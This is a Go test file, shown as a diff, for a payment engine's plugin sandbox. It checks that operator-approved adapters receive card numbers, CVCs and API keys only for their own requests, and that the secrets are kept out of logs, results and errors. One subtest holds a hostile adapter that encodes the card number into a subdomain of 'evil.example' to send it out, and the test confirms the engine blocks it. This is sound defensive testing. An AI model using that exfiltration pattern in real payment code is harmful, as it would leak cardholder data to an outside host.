@@ -1,0 +1,118 @@
+package plugins_test
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"payswitch/engine"
+	"payswitch/plugins"
+	"payswitch/sdk"
+)
+
+// revealing drives a scripted adapter that an operator gave the secrets themselves.
+func revealing(t *testing.T, o plugins.Options, f sdk.Func, change func(d *engine.Drive)) (*engine.DriveResult, error) {
+	t.Helper()
+	a := scripted(f)
+	o.AllowLoopbackHTTP = true
+	n, err := plugins.NewNative(map[string]*sdk.Adapter{"scripted": a}, o)
+	require.NoError(t, err)
+	info, _ := n.Adapter("scripted")
+	d := authorize("scripted", "")
+	d.Record = true
+	d.Account.Operator = &engine.OperatorDecisions{Approvals: []engine.Approval{{Hash: info.Hash, Reach: engine.ReachOf(info.Manifest), PlainSecrets: true}}}
+	change(d)
+	return n.Drive(t.Context(), d)
+}
+
+// An adapter that was allowed to gets the secrets, for that account alone, and nothing that it knows comes out but by its own requests.
+func TestPlainSecrets(t *testing.T) {
+	var got string
+	p := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		got = string(body) + r.Header.Get("X-Key")
+		_, _ = io.WriteString(w, `{"cvv":"737","pan":"4111 1111 1111 1111","key":"`+secretKey+`","amount":737}`)
+	}))
+	defer p.Close()
+	var seen []string
+	adapter := func(c *sdk.Call) (*sdk.Outcome, error) {
+		card, key := c.Request.Instrument.Card, c.Account.Credentials["secret_key"]
+		seen = []string{card.Number, card.CVC, key}
+		r, err := c.Do(&sdk.Send{Method: "POST", URL: p.URL + "/pay?key=" + key, Body: []byte(card.Number + "|" + card.CVC), Headers: []sdk.Header{sdk.H("X-Key", key)}})
+		if err != nil {
+			return nil, err
+		}
+		return &sdk.Outcome{Status: sdk.StatusAuthorized, TransactionID: "t-" + card.Number, Raw: map[string]string{"answer": string(r.Body), "cvc": card.CVC, key: "x"},
+			ConnectorData: &sdk.ConnectorData{Payment: `{"cvc":"` + card.CVC + `"}`}}, nil
+	}
+	watch, log := &observer{}, &logged{}
+	o := plugins.Options{Observer: watch, Logger: log.logger()}
+	var intent engine.SendIntent
+	at := func(d *engine.Drive) {
+		d.Account.BaseURL = p.URL
+		d.BeforeSend = func(_ context.Context, i engine.SendIntent) error { intent = i; return nil }
+	}
+	res, err := revealing(t, o, adapter, at)
+	require.NoError(t, err)
+	require.Equal(t, []string{cardNumber, cardCVC, secretKey}, seen)
+	require.Equal(t, cardNumber+"|"+cardCVC+secretKey, got, "it arrives as the adapter made it")
+	require.Contains(t, watch.of("revealed"), "revealed scripted")
+	require.Empty(t, res.Recordings, "nothing is kept of requests that hold secrets")
+	require.Equal(t, p.URL+"/pay", intent.URL)
+	require.Equal(t, sdk.StatusAuthorized, res.Outcome.Status)
+	text := fmt.Sprintf("%+v %s %s %v", *res.Outcome, res.Outcome.ConnectorData.Payment, res.Exchanges[0].Body, res.Violations)
+	for _, secret := range []string{cardNumber, "1111 1111 1111", secretKey, `"737"`, "cvc:737"} {
+		require.NotContains(t, text, secret)
+		require.NotContains(t, log.String(), secret)
+	}
+	require.Contains(t, string(res.Exchanges[0].Body), `"amount":737`)
+	require.Len(t, res.Violations, 2)
+
+	for name, f := range map[string]sdk.Func{
+		"error": func(c *sdk.Call) (*sdk.Outcome, error) {
+			_, err := c.Do(&sdk.Send{Method: c.Request.Instrument.Card.Number, URL: p.URL + "/" + c.Account.Credentials["secret_key"]})
+			return nil, err
+		},
+		"host": func(c *sdk.Call) (*sdk.Outcome, error) {
+			_, err := c.Do(&sdk.Send{Method: "POST", URL: "https://a" + c.Request.Instrument.Card.Number + ".evil.example/"})
+			return nil, err
+		},
+	} {
+		res, err := revealing(t, o, f, at)
+		require.Error(t, err, name)
+		require.Len(t, res.Violations, 1, "hosts hold back an adapter that knows secrets, too")
+		require.NotContains(t, err.Error()+res.Violations[0].Place, cardNumber, name)
+		require.NotContains(t, err.Error()+res.Violations[0].Place, secretKey, name)
+	}
+	res, err = revealing(t, o, func(c *sdk.Call) (*sdk.Outcome, error) {
+		return nil, &sdk.Reject{Code: sdk.RejectInvalid, Message: "no " + c.Request.Instrument.Card.Number, Parameter: "card"}
+	}, at)
+	require.NoError(t, err)
+	require.NotContains(t, res.Reject.Message, cardNumber)
+	require.Contains(t, res.Reject.Message, "no 411111")
+
+	// Withdrawn, or given to another build: blind again, or not driven at all.
+	seen = nil
+	_, err = revealing(t, o, adapter, func(d *engine.Drive) {
+		at(d)
+		d.Account.Operator.Approvals[0].PlainSecrets = false
+	})
+	require.ErrorContains(t, err, "the stand-in of secret_key in the query field key")
+	for i, secret := range []string{cardNumber, cardCVC, secretKey} {
+		require.NotContains(t, seen[i], secret)
+		require.Len(t, seen[i], 28)
+	}
+	for _, op := range []sdk.Operation{sdk.OpAuthorize, sdk.OpSync} {
+		_, err = revealing(t, o, adapter, func(d *engine.Drive) {
+			at(d)
+			d.Operation, d.Account.Operator.Approvals[0].Hash = op, "another build"
+		})
+		require.ErrorIs(t, err, engine.ErrNotApproved)
+		require.ErrorContains(t, err, "asks for the secrets themselves (plain_secrets)")
+	}
+}
